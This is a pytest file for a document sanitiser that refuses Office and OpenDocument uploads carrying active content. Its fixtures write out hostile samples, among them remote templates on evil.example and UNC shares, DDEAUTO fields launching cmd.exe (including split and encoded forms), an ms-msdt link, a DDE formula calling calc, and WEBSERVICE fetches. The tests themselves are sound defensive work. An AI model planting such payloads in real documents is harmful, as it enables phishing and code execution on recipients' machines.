"""A document with active content is refused with cause and remedy, however it is hidden; others are taken."""

from contextlib import nullcontext
from functools import partial

import pytest

from commonweal.blocks.forms.files import office, separate_process
from commonweal.blocks.forms.files.archives import document_kind
from commonweal.blocks.forms.files.kinds import Unsafe
from commonweal.blocks.forms.files.sanitising import make_safe
from commonweal.blocks.forms.tests.test_sanitising import DOCX, zipped

RELATIONSHIPS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def rels(kind, target, mode=' TargetMode="External"'):
    return (
        '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        f'<Relationship Id="rId1" Type="{RELATIONSHIPS}/{kind}" Target="{target}"{mode}/></Relationships>'
    )


def words(inner):
    return f'<w:document xmlns:w="urn:w" xmlns:r="urn:r"><w:body>{inner}</w:body></w:document>'


def run(code):
    return f"<w:r><w:instrText>{code}</w:instrText></w:r>"


def sheet(formula):
    return f"<worksheet><sheetData><row><c><f>{formula}</f></c></row></sheetData></worksheet>"


# With the namespace that word processors know, braces for what is in it.
WORDS = '<w:hdr xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">{}</w:hdr>'
BEGIN, END = '<w:r><w:fldChar w:fldCharType="begin"/></w:r>', '<w:r><w:fldChar w:fldCharType="end"/></w:r>'
ODT = {"mimetype": "application/vnd.oasis.opendocument.text"}
XLSX = {"[Content_Types].xml": "<Types/>", "xl/workbook.xml": "<workbook/>"}


def odt(inner, **more):
    names = (
        'xmlns:o="urn:o" xmlns:text="urn:text" xmlns:draw="urn:draw" xmlns:script="urn:script" xmlns:meta="urn:meta"'
    )
    return {**ODT, "content.xml": f'<o:d {names} xmlns:xlink="http://www.w3.org/1999/xlink">{inner}</o:d>', **more}


MACROS, LOADS, HAS_A_FILE = "macros", "loads something from elsewhere", "another file or a program"
DOCUMENTS = {
    "a template elsewhere": ({**DOCX, "word/_rels/settings.xml.rels": rels("attachedTemplate", "http://evil.example/x.dotm")}, LOADS),
    "a template on a share": ({**DOCX, "word/_rels/settings.xml.rels": rels("attachedTemplate", "\\\\evil\\x.dotm")}, LOADS),
    "a picture elsewhere": ({**DOCX, "word/_rels/document.xml.rels": rels("image", "https://evil.example/x.png")}, LOADS),
    "a frame elsewhere": ({**DOCX, "word/_rels/webSettings.xml.rels": rels("frame", "https://evil.example/")}, LOADS),
    "an object elsewhere": ({**DOCX, "word/_rels/document.xml.rels": rels("oleObject", "mhtml:http://evil.example!x")}, HAS_A_FILE),
    "a link that is a program": ({**DOCX, "word/_rels/document.xml.rels": rels("hyperlink", "ms-msdt:/id x")}, LOADS),
    "an object inside": ({**DOCX, "word/embeddings/oleObject1.bin": "x"}, HAS_A_FILE),
    "an object's relationship": ({**DOCX, "word/_rels/document.xml.rels": rels("oleObject", "embeddings/x.dat", "")}, HAS_A_FILE),
    "a page inside": ({**DOCX, "word/_rels/document.xml.rels": rels("aFChunk", "x.dat", "")}, HAS_A_FILE),
    "a control": ({**DOCX, "word/activeX/activeX1.xml": "<x/>"}, HAS_A_FILE),
    "macros": ({**DOCX, "word/vbaProject.bin": "x"}, MACROS),
    "macros by their type": ({**DOCX, "[Content_Types].xml": '<Types><Override ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/></Types>'}, MACROS),
    "macros by relationship": ({**DOCX, "word/_rels/document.xml.rels": rels("vbaProject", "x.dat", "")}, MACROS),
    "a field that starts a program": ({**DOCX, "word/document.xml": words(BEGIN + run(' DDEAUTO c:\\\\windows\\\\cmd.exe "/k" ') + END)}, LOADS),
    "such a field in pieces": ({**DOCX, "word/header1.xml": words(BEGIN + run(" DD") + run("EAU") + run("TO c:\\\\x ") + END)}, LOADS),
    "such a field in numbers": ({**DOCX, "word/document.xml": words(BEGIN + run(" QUOTE 68 68 69 ") + END)}, LOADS),
    "such a field that was deleted": ({**DOCX, "word/document.xml": words(BEGIN + run(" DDEAUTO c:\\\\x ").replace("instrText", "delInstrText") + END)}, LOADS),
    "a simple field": ({**DOCX, "word/document.xml": words('<w:fldSimple w:instr=" INCLUDEPICTURE &quot;http://evil.example/x&quot; "/>')}, LOADS),
    "such a field in a part of another name": ({**DOCX, "elsewhere/part.dat": WORDS.format(BEGIN + run("DDEAUTO c:\\\\x") + END)}, LOADS),
    "a field that links to a program": ({**DOCX, "word/document.xml": words(BEGIN + run(' HYPERLINK "search-ms:query" ') + END)}, LOADS),
    "a field that links to a share": ({**DOCX, "word/document.xml": words(BEGIN + run(' HYPERLINK "\\\\\\\\evil\\\\x" ') + END)}, LOADS),
    "a drawing elsewhere": ({**DOCX, "word/document.xml": words('<v:imagedata xmlns:v="urn:schemas-microsoft-com:vml" src="http://evil.example/x.png"/>')}, LOADS),
    "letters for many from a database": ({**DOCX, "word/settings.xml": words("<w:mailMerge><w:connectString/></w:mailMerge>")}, LOADS),
    "a table that fetches a page": ({**XLSX, "xl/worksheets/sheet1.xml": sheet("_xlfn.WEBSERVICE(&quot;http://evil.example&quot;)")}, LOADS),
    "such a table in numbers": ({**XLSX, "xl/worksheets/sheet1.xml": sheet("&#x57;EBSERVICE(A1)")}, LOADS),
    "such a table in sixteen bits": ({**XLSX, "xl/worksheets/sheet1.xml": sheet("WEBSERVICE(A1)").encode("utf-16")}, LOADS),
    "a name of a table that fetches a picture": ({**XLSX, "xl/workbook.xml": "<workbook><definedName>_xlfn.IMAGE(A1)</definedName></workbook>"}, LOADS),
    "a formula that starts a program": ({**XLSX, "xl/worksheets/sheet1.xml": sheet("cmd|'/c calc'!A1")}, LOADS),
    "such a formula between comments": ({**XLSX, "xl/worksheets/sheet1.xml": sheet("cmd<!-- -->|'/c calc'!A1")}, "damaged"),
    "such a formula in a section": ({**XLSX, "xl/worksheets/sheet1.xml": sheet("<![CDATA[cmd|'/c calc'!A1]]>")}, "damaged"),
    "an open table that fetches a page": (odt("<text:c text:formula='of:=WEBSERVICE(\"http://evil.example\")'/>"), LOADS),
    "a document type": ({**DOCX, "word/document.xml": '<!DOCTYPE x [<!ENTITY a "b">]><x>&amp;</x>'}, HAS_A_FILE),
    "a table's program": ({**XLSX, "xl/externalLinks/externalLink1.xml": '<x><ddeLink ddeService="cmd"/></x>'}, LOADS),
    "a table's other table": ({**XLSX, "xl/externalLinks/_rels/externalLink1.xml.rels": rels("externalLinkPath", "file:///c:/x.xlsx")}, LOADS),
    "a table's database": ({**XLSX, "xl/connections.xml": "<connections/>"}, LOADS),
    "a bad table inside": ({**DOCX, "word/embeddings/x.xlsx": zipped({**XLSX, "xl/vbaProject.bin": "x"})}, MACROS),
    "a table in a table in a document": ({**DOCX, "word/embeddings/x.xlsx": zipped({**XLSX, "xl/embeddings/y.xlsx": zipped(XLSX)})}, HAS_A_FILE),
    "an open document's picture elsewhere": (odt('<draw:image xlink:href="https://evil.example/x.png"/>'), LOADS),
    "an open document's section elsewhere": (odt('<text:section-source xlink:href="//evil.example/x.odt"/>'), LOADS),
    "an open document's object": (odt('<draw:object-ole xlink:href="./Object 1"/>'), HAS_A_FILE),
    "an open document's program": (odt('<script:event-listener xlink:href="vnd.sun.star.script:x"/>'), MACROS),
    "an open document's macros": (odt("", **{"Basic/Standard/Module1.xml": "<x/>"}), MACROS),
    "an open document's data": (odt("<text:dde-connection-decl/>"), LOADS),
    "an open document's template elsewhere": (odt("", **{"meta.xml": '<m xmlns:x="http://www.w3.org/1999/xlink"><template x:href="https://evil.example/t.ott"/></m>'}), LOADS),
    "an open document's template on a share": (odt("", **{"meta.xml": '<m xmlns:x="http://www.w3.org/1999/xlink"><template x:href="\\\\evil\\t.ott"/></m>'}), LOADS),
    "an open document's link that is a program": (odt('<text:a xlink:href="macro:///x">x</text:a>'), LOADS),
}  # fmt: skip


@pytest.mark.parametrize("name", DOCUMENTS)
def test_a_document_with_active_content_is_refused_with_cause_and_remedy(name):
    entries, cause = DOCUMENTS[name]
    with pytest.raises(Unsafe, match=rf"{cause}.*PDF"):
        document_kind(zipped(entries))


@pytest.mark.parametrize(
    "entries",
    [
        {**DOCX, "word/_rels/document.xml.rels": rels("hyperlink", "https://example.org/import")},
        {**DOCX, "word/_rels/document.xml.rels": rels("hyperlink", "mailto:ann@example.org")},
        {**DOCX, "word/_rels/document.xml.rels": rels("image", "media/image1.png", "")},
        {**DOCX, "word/document.xml": words(BEGIN + run(' HYPERLINK "https://example.org/link import" ') + END)},
        {**DOCX, "word/document.xml": words(BEGIN + run(" PAGE ") + END + "<w:t>A DDE link</w:t>")},
        {**DOCX, "word/embeddings/Microsoft_Excel_Sheet.xlsx": zipped(XLSX)},
        {**DOCX, "word/printerSettings/printerSettings1.bin": "x"},
        {**XLSX, "xl/worksheets/sheet1.xml": "<x/>"},
        {**XLSX, "xl/worksheets/sheet1.xml": sheet("IF(A1=&quot;a|b&quot;,Other!B1,SUM(B1:B9))")},
        {**XLSX, "xl/worksheets/sheet1.xml": sheet("'cost|each'!B1&amp;&quot;|&quot;")},
        {**XLSX, "xl/sharedStrings.xml": "<sst><si><t>WEBSERVICE(</t></si></sst>"},
        {**DOCX, "word/media/image1.svg": "<!DOCTYPE svg><svg xmlns='http://www.w3.org/2000/svg'/>"},
        {**DOCX, "word/document.xml": words(BEGIN + run(' HYPERLINK \\l "chapter" ') + END)},
        odt('<draw:image xlink:href="Pictures/1.png"/><text:a xlink:href="https://example.org">x</text:a>'),
        odt('<draw:object xlink:href="./Object 1"/><text:a xlink:href="#chapter">x</text:a>'),
        odt("", **{"meta.xml": '<m xmlns:x="http://www.w3.org/1999/xlink"><template x:href="../t/letter.ott"/></m>'}),
    ],
)
def test_what_ordinary_documents_have_is_taken(entries):
    assert document_kind(zipped(entries))


@pytest.mark.parametrize(
    ("piece", "refused"),
    [
        ("<f>" + "a|" * 3, True),
        ("<f ", False),
        ("WEBSERVICE ", False),
        ("a|", False),
        ("<f>'", False),
        ("<w:f ", False),
    ],
)
def test_a_search_through_rows_does_not_begin_anew_where_it_fails(piece, refused):
    """One that does would not end within this test."""
    rows = (sheet("1") + piece * (1_000_000 // len(piece))).encode()
    with pytest.raises(Unsafe) if refused else nullcontext():
        office.check_rows(rows)


def test_a_document_with_more_elements_than_we_look_through_is_refused(monkeypatch):
    monkeypatch.setattr("commonweal.blocks.forms.files.office.MOST_ELEMENTS", 10)
    with pytest.raises(Unsafe, match="more than we can look through"):
        document_kind(zipped({**DOCX, "word/document.xml": words("<w:p/>" * 20)}))


def test_rows_with_more_letters_in_numbers_than_we_look_through_are_refused(monkeypatch):
    monkeypatch.setattr("commonweal.blocks.forms.files.office.MOST_ESCAPED", 3)
    office.check_rows(sheet("&#65;" * 3).encode())
    with pytest.raises(Unsafe, match="more than we can look through"):
        office.check_rows(sheet("&#65;" * 4).encode())


def test_a_document_is_looked_through_in_a_process_of_its_own_and_refused_with_the_same_words(monkeypatch):
    assert make_safe(zipped(DOCX), "x").media_type.endswith("wordprocessingml.document")
    entries, cause = DOCUMENTS["macros"]
    with pytest.raises(Unsafe, match=cause):
        make_safe(zipped(entries), "x")
    lines = zipped(
        {**DOCX, "word/document.xml": words("".join("\n" * 150 + f"{number:x}" for number in range(100_000)))}
    )
    assert len(lines) < 1_000_000
    monkeypatch.setattr(separate_process, "ask", partial(separate_process.ask, seconds=1))
    with pytest.raises(Unsafe, match="more than we can look through"):
        make_safe(lines, "x")
